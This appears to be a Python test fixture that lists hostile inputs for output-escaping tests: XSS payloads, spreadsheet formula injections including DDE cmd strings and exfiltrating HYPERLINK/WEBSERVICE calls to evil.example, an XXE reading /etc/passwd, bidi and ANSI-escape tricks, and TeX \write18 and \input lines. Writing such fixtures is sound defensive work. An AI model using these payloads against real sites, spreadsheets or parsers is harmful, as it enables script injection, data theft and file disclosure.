"""Hostile text by the kind of harm it means: 60 that would run a script or fetch something in a browser, 20 that a
spreadsheet would run, 20 that XML cannot hold, 10 that turn or colour what stands beside them.

A script that runs opens a dialog or asks evil.example for something; a tab of `tests/browser` notices both.
"""

_RUN = "alert(1)"
_EVIL = "https://evil.example"

XSS = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"</script><script>{_RUN}</script>",
    f'"></script><script>{_RUN}</script>',
    f"<script src={_EVIL}/a.js></script>",
    f"<script>fetch('{_EVIL}/f')</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror={_RUN}//",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f"<img src={_EVIL}/i.png>",
    f"<img srcset='{_EVIL}/s.png 1x'>",
    f"<image src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text y=9>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={_RUN}/>#x"/></svg>',
    f"<math><mi xlink:href='javascript:{_RUN}'>x</mi></math>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src={_EVIL}/frame></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<object data={_EVIL}/o.svg></object>",
    f"<embed src={_EVIL}/e.swf>",
    f"<video src={_EVIL}/v.mp4 autoplay></video>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<body background={_EVIL}/b.png>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}><option>x</select>",
    f"<textarea autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<div style='background:url({_EVIL}/u.png)'>x</div>",
    f"<div style='animation:x' onanimationstart={_RUN}>x</div>",
    f"<style>@import '{_EVIL}/s.css';</style>",
    f"</style><style>*{{background:url({_EVIL}/all.png)}}</style>",
    f"<link rel=stylesheet href={_EVIL}/l.css>",
    f"<link rel=prefetch href={_EVIL}/p>",
    f"<link rel=dns-prefetch href=//evil.example><link rel=preconnect href={_EVIL}>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}/m'>",
    f"<base href={_EVIL}/>",
    f"<form action={_EVIL}/form><button autofocus>x</button></form>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:msgbox(1)//{_RUN}",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[><script>{_RUN}</script>]]>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;&#60;img src=x onerror={_RUN}&#62;",
    f"{{{{constructor.constructor('{_RUN}')()}}}}${{{_RUN}}}<%= {_RUN} %>`{_RUN}`",
)

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example/"&A2)',
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1;=2+2",
    '","=1+1","',
    "＝1+1",
    "＋1+1",
    "＠SUM(1)",
)  # fmt: skip

NOT_XML = (
    "null \x00 here", "start \x01 here", "bell \x07 here", "backspace \x08 here", "tab of lines \x0b here", "form feed \x0c here",
    "shift \x0e here", "escape \x1b here", "unit \x1f here", "delete \x7f here", "next line \x85 here", "other control \x9f here",
    "not a character \ufffe here", "nor this \uffff here", "far from one \U0001fffe here", "]]> ends nothing", "<?xml version='9'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "& &amp; &unknown; &#0; &#xD800;", "<!-- -- --> <unclosed attribute='", "line\u2028separator\u2029here",
)  # fmt: skip

TURNING = (
    "right \u202egnp.exe", "left \u202dabc", "embedded \u202babc\u202c", "isolated \u2067abc\u2069", "first strong \u2068abc\u2069",
    "marks \u200f\u200e\u061c", "red \x1b[31mtext\x1b[0m", "title \x1b]0;owned\x07", "cleared \x1b[2J\x1b[H", "eight bit \x9b31m",
)  # fmt: skip

ALL = (*XSS, *FORMULAS, *NOT_XML, *TURNING)

TEX = (
    "ends in \\", "\\", "\\\\", "a \\} b", "}, title = {other", "}\n}\n@misc{other,\n title = {x}", "{unbalanced", "}unbalanced", "}{", "{{{{", "100 % of it", "% comment\n}",
    "\\input{/etc/passwd}", "\\write18{id}", "\\end{document}", "$x_1^2$", "$", "a & b # c ~ d ^ e _ f", '"quoted"', '" # other # "', "@article{x, title={y}}", "\n@comment{", "@string(a = b)",
    "line\nbreak", "carriage\rreturn", "TY  - JOUR\nTI  - other\nER  - \n", "x\nER  - \n\nTY  - BOOK\nTI  - y", "x\u2028ER  - ", "x\x85ER  - ", "x\x0cER  - ", "\x00 \x1b[31m \x7f", "\ufffe\uffff",
    "\ud800 alone", "A and B", "A AND B", "others", "and others", "et al.", "Smith, John and Doe, Jane", "a, b, c", ", ", " and ", "von {", "É. \\'{e}", "=cmd|' /C calc'!A0", "<b>bold</b> &amp;",
)  # fmt: skip
"""What ends a field, a record or an entry of a bibliography, or is a command of TeX."""
